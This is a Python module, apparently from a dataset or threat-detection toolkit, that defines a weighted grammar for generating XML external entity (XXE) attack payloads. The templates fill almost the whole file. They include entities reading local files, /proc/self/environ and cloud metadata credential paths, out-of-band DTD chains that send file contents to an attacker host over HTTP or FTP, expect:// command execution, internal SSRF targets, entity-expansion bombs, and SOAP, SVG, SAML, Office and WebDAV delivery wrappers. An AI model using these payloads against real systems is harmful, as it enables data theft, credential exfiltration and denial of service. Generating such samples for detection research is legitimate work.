"""XML external entities: general and parameter entities, out-of-band DTDs, SVG, SOAP, Office and other XML bodies."""

from threatclip.pairs.grammar.start import Start

STARTS = (
    Start("document", weight=12, places=("xml",)),
    Start("fragment", weight=4, places=("param", "form", "query")),
    Start("part", weight=3, places=("part",)),
    Start("json_wrapped", weight=1, places=("jsonbody",)),
    Start("form_wrapped", weight=2, places=("formbody",)),
    Start("dav", weight=1, places=("message",)),
)

TEXT = r"""
document := *5 «prolog?85»«general» ¦ *4 «prolog?85»«oob» ¦ *2 «prolog?85»«param_chain» ¦ «prolog»«soap» ¦ «prolog»«svg»
  ¦ «xinclude» ¦ «prolog»«bomb» ¦ «prolog»«local_dtd» ¦ «prolog»«formats» ¦ «prolog»«doctype_only» ¦ «xslt» ¦ «encoded»
prolog := *5 <?xml version="1.0"?> ¦ *4 <?xml version="1.0" encoding="UTF-8"?>
  ¦ <?xml version="1.0" encoding="utf-8"?>«nl» ¦ <?xml version="1.0" encoding="ISO-8859-1"?> ¦ <?xml version='1.0'?>
  ¦ <?xml version="1.0" encoding="UTF-8" standalone="yes"?> ¦ <?xml version="1.0" standalone="no"?>
  ¦ <?xml version="1.0" ?>«nl» ¦ <?xml version="1.1"?> ¦ <?xml version="1.0" encoding="UTF-7"?>
root := *2 root ¦ *2 foo ¦ data ¦ test ¦ request ¦ xml ¦ «word» ¦ «coined» ¦ «abc» ¦ user ¦ order ¦ message ¦ config
  ¦ item ¦ r ¦ a ¦ stockCheck ¦ creds ¦ methodCall ¦ ANY ¦ x ¦ note ¦ soap:Envelope
ent := *2 xxe ¦ *2 «ab» ¦ *2 «abc» ¦ file ¦ test ¦ «rand» ¦ ext ¦ «word» ¦ payload ¦ remote ¦ send ¦ a
kind := *8 SYSTEM ¦ PUBLIC "«word»" ¦ PUBLIC "-//«coined|upper»//TEXT«sp»«word»//EN" ¦ SYSTEM«nl»
source := *5 file://«unix_file» ¦ *2 file:///«unix_path» ¦ *2 file:///C:/«win_path» ¦ *4 «url»
  ¦ *3 «scheme»://«attacker»/«rand».dtd ¦ *2 php://filter/convert.base64-encode/resource=«php_res»
  ¦ php://filter/read=convert.base64-encode/resource=«php_res»
  ¦ php://filter/zlib.deflate/convert.base64-encode/resource=«php_res» ¦ netdoc://«unix_file»
  ¦ jar:«scheme»://«attacker»/«rand».jar!/«word».txt ¦ jar:file:///«word»/«rand».zip!/«word»
  ¦ gopher://«attacker»:«port»/_«rand» ¦ ftp://«attacker»/«rand» ¦ ftp://«attacker»:2121/%«word»;
  ¦ expect://«=id~ls~whoami~uname» ¦ «scheme»://169.254.169.254/latest/meta-data/«=~iam/security-credentials/~hostname»
  ¦ «scheme»://127.0.0.1:«port»/ ¦ «scheme»://«priv»:«port»/«word» ¦ file:///dev/random ¦ «unix_file» ¦ C:\«win_path»
  ¦ file:///proc/self/«=environ~cmdline~cwd/» ¦ file:///etc/ ¦ \\«attacker»\«word» ¦ data://text/plain;base64,«rand|b64»
  ¦ ldap://«attacker»/«ab» ¦ dict://127.0.0.1:11211/stat ¦ //«attacker»/«ab» ¦ ../«app_file»
  ¦ compress.zlib://«unix_file»
php_res := «app_file» ¦ «unix_file» ¦ index.php ¦ ../«word».php ¦ /var/www/html/«word».php ¦ «scheme»://«attacker»/
general := *6 <!DOCTYPE «$r:root» [<!ENTITY «$e:ent» «kind» "«source»">]><«$r»>&«$e»;</«$r»>
  ¦ *3 <!DOCTYPE «$r:root» [«nl»<!ELEMENT «$r» ANY >«nl»<!ENTITY «$e:ent» «kind» "«source»" >]>«nl»<«$r»>«nl»<«$t:word»>&«$e»;</«$t»>«nl»</«$r»>
  ¦ *2 <!DOCTYPE «$r:root» [ <!ENTITY «$e:ent» «kind» '«source»'> ]><«$r»><«$t:name»>&«$e»;</«$t»><«$u:name»>«rand»</«$u»></«$r»>
  ¦ <!DOCTYPE «$r:root»[<!ENTITY «$e:ent» SYSTEM "«source»">]><«$r» «word»="«rand»"><«$t:word»>«int»</«$t»><«$u:word»>&«$e»;</«$u»></«$r»>
  ¦ <!DOCTYPE «$r:root» [<!ENTITY «$e:ent» "«rand»">]><«$r»>&«$e»;</«$r»>
  ¦ <!DOCTYPE «$r:root» [<!ENTITY «$e:ent» SYSTEM "«source»">«nl»<!ENTITY «$f:rand» SYSTEM "«source»">]>«nl»<«$r»>&«$e»;&«$f»;</«$r»>
  ¦ <!DOCTYPE «$r:root» [<!ELEMENT «$r» (#PCDATA)><!ENTITY «$e:ent» SYSTEM "«source»">]><«$r»>&«$e»;</«$r»>
  ¦ <!DOCTYPE «$r:root» [<!ENTITY «$e:ent» «kind» "«source»">]><«$r»><![CDATA[«rand»]]>&«$e»;</«$r»>
oob := *5 <!DOCTYPE «$r:root» [<!ENTITY % «$e:ent» «kind» "«scheme»://«attacker»/«rand»«=.dtd~~.xml»">%«$e»;]><«$r»/>
  ¦ *3 <!DOCTYPE «$r:root» [<!ENTITY % «$e:ent» SYSTEM "«url»">%«$e»;]><«$r»>«rand»</«$r»>
  ¦ *2 <!DOCTYPE «$r:root» [«nl»<!ENTITY % «$e:ent» SYSTEM "«scheme»://«attacker»/«word».dtd">«nl»%«$e»;«nl»]>«nl»<«$r»>«nl»<«$t:word»>«rand»</«$t»>«nl»</«$r»>
  ¦ *2 <!DOCTYPE «$r:root» [<!ENTITY % «$f:rand» SYSTEM "«source»"><!ENTITY % «$e:ent» SYSTEM "«scheme»://«attacker»/«word».dtd">%«$e»;]><«$r»>&«ent»;</«$r»>
  ¦ <!DOCTYPE «$r:root» SYSTEM "«url»"><«$r»/>
  ¦ <!DOCTYPE «$r:root» PUBLIC "-//«coined|cap»//DTD«sp»«word»//EN" "«url»"><«$r»>«rand»</«$r»>
  ¦ <!DOCTYPE «$r:root» [<!ENTITY % «$e:ent» SYSTEM "«scheme»://«attacker»/«ab»"> %«$e»; %«$s:abc»; %«rand»;]><«$r»>&«$s»;</«$r»>
  ¦ <!DOCTYPE «$r:root» [<!ENTITY % «$e:ent» SYSTEM '«scheme»://«rand20».«zone»'>%«$e»;]>
  ¦ <!DOCTYPE convert [<!ENTITY % remote SYSTEM "«scheme»://«attacker»/«word».dtd">%remote;%int;%send;]>
param_chain := <!DOCTYPE «$r:root» [<!ENTITY % «$f:ent» SYSTEM "«source»"><!ENTITY % «$v:rand» "<!ENTITY &#x25; «$x:abc» SYSTEM '«scheme»://«attacker»/?«ab»=%«$f»;'>">%«$v»;%«$x»;]><«$r»/>
  ¦ <!DOCTYPE «$r:root» [<!ENTITY % start "<![CDATA["><!ENTITY % «$f:ent» SYSTEM "«source»"><!ENTITY % end "]]>"><!ENTITY % dtd SYSTEM "«scheme»://«attacker»/«word».dtd">%dtd;]><«$r»>&all;</«$r»>
  ¦ <!DOCTYPE «$r:root» [<!ENTITY % «$a:ab» '<!ENTITY &#37; «$b:abc» SYSTEM "«url»">'>%«$a»;%«$b»;]><«$r»>«int»</«$r»>
  ¦ <!ENTITY % «$f:ent» SYSTEM "«source»"><!ENTITY % «$g:rand» "<!ENTITY «abc» SYSTEM 'ftp://«attacker»:«port»/%«$f»;'>">%«$g»;
soap := <soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><«$t:word»><![CDATA[<!DOCTYPE «ab» [<!ENTITY % «$e:ent» SYSTEM "«url»">%«$e»;]><xxx/>]]></«$t»></soap:Body></soap:Envelope>
  ¦ <!DOCTYPE soapenv:Envelope [<!ENTITY «$e:ent» SYSTEM "«source»">]><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header/><soapenv:Body><«$t:word»>&«$e»;</«$t»></soapenv:Body></soapenv:Envelope>
  ¦ <SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/"><SOAP-ENV:Body><«$t:coined»><xml>«general|html»</xml></«$t»></SOAP-ENV:Body></SOAP-ENV:Envelope>
svg := <!DOCTYPE svg [<!ENTITY «$e:ent» SYSTEM "«source»">]><svg width="«int»px" height="«int»px" xmlns="http://www.w3.org/2000/svg" version="1.1"><text font-size="«dd»" x="0" y="16">&«$e»;</text></svg>
  ¦ <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="«int»"><image xlink:href="«source»"></image></svg>
  ¦ <!DOCTYPE svg [<!ENTITY % «$e:ent» SYSTEM "«url»">%«$e»;]><svg xmlns="http://www.w3.org/2000/svg"/>
xinclude := <«$r:root» xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="«source»"/></«$r»>
  ¦ <«$r:root» xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="«url»"><xi:fallback>«rand»</xi:fallback></xi:include></«$r»>
bomb := <!DOCTYPE «$r:root» [<!ENTITY «$a:ab»0 "«rand»"><!ENTITY «$a»1 "&«$a»0;&«$a»0;&«$a»0;&«$a»0;&«$a»0;"><!ENTITY «$a»2 "&«$a»1;&«$a»1;&«$a»1;&«$a»1;&«$a»1;"><!ENTITY «$a»3 "&«$a»2;&«$a»2;&«$a»2;&«$a»2;">]><«$r»>&«$a»3;</«$r»>
  ¦ <!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>
local_dtd := <!DOCTYPE «$r:root» [<!ENTITY % local_dtd SYSTEM "file://«=/usr/share/yelp/dtd/docbookx.dtd~/usr/share/xml/fontconfig/fonts.dtd~/usr/share/xml/scrollkeeper/dtds/scrollkeeper-omf.dtd»"><!ENTITY % «=ISOamso~expr~constant» '<!ENTITY &#x25; «$f:ent» SYSTEM "«source»"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///«rand»/&#x25;«$f»;&#x27;>">&#x25;eval;&#x25;error;'>%local_dtd;]><«$r»/>
  ¦ <!DOCTYPE «$r:root» [<!ENTITY % «$f:ent» SYSTEM "«source»"><!ENTITY % eval "<!ENTITY &#x25; error SYSTEM 'file:///«rand»/%«$f»;'>">%eval;%error;]>
formats := <!DOCTYPE rss [<!ENTITY «$e:ent» SYSTEM "«source»">]><rss version="2.0"><channel><title>«word»</title><item><description>&«$e»;</description></item></channel></rss>
  ¦ <!DOCTYPE samlp:AuthnRequest [<!ENTITY % «$e:ent» SYSTEM "«url»">%«$e»;]><samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_«hex16»" Version="2.0"/>
  ¦ <!DOCTYPE Autodiscover [<!ENTITY «$e:ent» SYSTEM "«source»">]><Autodiscover><Request><EMailAddress>«word»</EMailAddress><AcceptableResponseSchema>&«$e»;</AcceptableResponseSchema></Request></Autodiscover>
  ¦ <!DOCTYPE methodCall [<!ENTITY «$e:ent» SYSTEM "«source»">]><methodCall><methodName>&«$e»;</methodName><params><param><value>«word»</value></param></params></methodCall>
  ¦ <!DOCTYPE worksheet [<!ENTITY % «$e:ent» SYSTEM "«url»">%«$e»;]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>
  ¦ <!DOCTYPE plist [<!ENTITY «$e:ent» SYSTEM "«source»">]><plist version="1.0"><dict><key>«word»</key><string>&«$e»;</string></dict></plist>
  ¦ <!DOCTYPE gpx [<!ENTITY «$e:ent» SYSTEM "«source»">]><gpx version="1.1"><name>&«$e»;</name></gpx>
  ¦ <!DOCTYPE propfind [<!ENTITY «$e:ent» SYSTEM "«source»">]><propfind xmlns="DAV:"><prop><«$t:word»>&«$e»;</«$t»></prop></propfind>
  ¦ <!DOCTYPE html [<!ENTITY «$e:ent» SYSTEM "«source»">]><html><body>&«$e»;</body></html>
  ¦ <!DOCTYPE project [<!ENTITY % «$e:ent» SYSTEM "«url»">%«$e»;]><project><modelVersion>4.0.0</modelVersion><artifactId>«coined»</artifactId></project>
doctype_only := <!DOCTYPE «$r:root» SYSTEM "«url»"><«$r»/> ¦ <!DOCTYPE «root» PUBLIC "«word»" "«url»">
  ¦ <!DOCTYPE «$r:root» [<!ATTLIST «$r» «word» CDATA #IMPLIED>«nl»<!ENTITY «ent» SYSTEM "«source»">]><«$r»/>
  ¦ <!DOCTYPE «root» [<!NOTATION «ab» SYSTEM "«url»"><!ENTITY «ent» SYSTEM "«source»" NDATA «ab»>]>
xslt := <?xml-stylesheet type="text/xsl" href="«url».xsl"?><«root»/>
  ¦ <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document('«source»')"/></xsl:template></xsl:stylesheet>
  ¦ <«$r:root» xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="«url» «url».xsd"/>
  ¦ <xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include schemaLocation="«url»"/></xs:schema>
encoded := +ADwAIQ-DOCTYPE «$r:root» +AFs- +ADwAIQ-ENTITY «$e:ent» SYSTEM +ACI-«source»+ACIAPgBd-+AD4- +ADw-«$r»+AD4AJg-«$e»+ADsAPA-/«$r»+AD4-
  ¦ &lt;!DOCTYPE «root» [&lt;!ENTITY «ent» SYSTEM "«source»"&gt;]&gt; ¦ «general|slashu» ¦ <![CDATA[«general»]]>
fragment := *4 «general» ¦ <![CDATA[<]]>«word»<![CDATA[>]]> ¦ <!DOCTYPE «root» [<!ELEMENT «root» (#ANY)>
  ¦ <!ENTITY % «ent» "<!ENTITY «ent» SYSTEM '«source»'>"> ¦ <!DOCTYPE «root» PUBLIC "«word»" "«url»">
  ¦ <!ENTITY «ent» PUBLIC "«ab»" "«source»"> ¦ <?xml-stylesheet href="«url»"?>
  ¦ «prolog»<!DOCTYPE «$r:root» [<!ELEMENT «$r» ANY><!ENTITY «$e:ent» SYSTEM "«source»">]><«$r»>&«$e»;</«$r»>
  ¦ «prolog»<!DOCTYPE «root» [<!ENTITY % «$e:ent» SYSTEM "«source»"> %«$e»; ]>
  ¦ <xi:include parse="text" href="«source»" xmlns:xi="http://www.w3.org/2001/XInclude"/> ¦ *3 «oob» ¦ «prolog»«general»
  ¦ «prolog»«oob» ¦ «general|url» ¦ «oob|url» ¦ <!ENTITY «ent» SYSTEM "«source»">
  ¦ <!DOCTYPE «root» [<!ENTITY % «$e:ent» SYSTEM "«source»">%«$e»;]> ¦ «document|b64» ¦ «xinclude» ¦ «document|url2»
  ¦ "><!DOCTYPE «root» SYSTEM "«url»"> ¦ <!entity «ent» system "«source»"> ¦ xmlns:xi="http://www.w3.org/2001/XInclude"
  ¦ %«ent»;]>
part := Content-Disposition: form-data; name="«word»"; filename="«rand».«=xml~svg~gpx~rss~xsd~wsdl~opml~xml~kml~drawio»"«cr»«nl»Content-Type: «=text/xml~application/xml~image/svg+xml~application/octet-stream»«cr»«nl»«cr»«nl»«document»
  ¦ Content-Disposition: form-data; name="file"; filename="«word».«=docx~xlsx~pptx~odt~epub»"«cr»«nl»Content-Type: application/vnd.openxmlformats-officedocument«cr»«nl»«cr»«nl»PK«x03»«x04»«x14»«nul»«=word/document.xml~xl/workbook.xml~[Content_Types].xml~content.xml~docProps/app.xml»«document»PK«x05»«x06»
  ¦ Content-Disposition: form-data; name="«=xml~data~request~config~payload»"«cr»«nl»«cr»«nl»«document»
  ¦ @2021 Content-Disposition: form-data; name="image"; filename="«rand».«=wav~mp3~jpg»"«cr»«nl»Content-Type: audio/wav«cr»«nl»«cr»«nl»RIFF«x80»«nul»«nul»«nul»WAVEiXML{«nul»«nul»«nul»«document»
json_wrapped := {"«name»":"«document|js»"} ¦ {"xml":"«document|js»","«name»":«int»} ¦ {"data":"«document|b64»"}
  ¦ {"type":"svg","content":"«svg|js»"}
form_wrapped := *2 «=xml~data~request~xmlData~content~body~SAMLRequest~soap~payload~source~feed~text~REQUEST~postData»=«document|plus»
  ¦ SAMLResponse=«document|b64|plus»&RelayState=«rand» ¦ «word»=«rand»&«name»=«general|plus» ¦ xml=«oob|url»
  ¦ action=«word»&xmldoc=«document|plus» ¦ logoutRequest=«document|plus»
dav := PROPFIND /«word»/«nl»Content-Type: application/xml«nl»Depth: 1«nl»«nl»«document»
  ¦ REPORT /«word»/«word»/«nl»Content-Type: text/xml; charset=utf-8«nl»«nl»«document»
  ¦ PUT /«word»/«rand».xml«nl»Content-Type: application/xml«nl»«nl»«document»
  ¦ POST /«word»/services/«coined|cap»«nl»SOAPAction: "«word»"«nl»Content-Type: text/xml«nl»«nl»«prolog»«soap»
  ¦ POST /autodiscover/autodiscover.xml«nl»Content-Type: application/xml«nl»«nl»«prolog»«formats»
  ¦ POST /xmlrpc«nl»Content-Type: application/xml«nl»«nl»«general»
"""  # noqa: E501
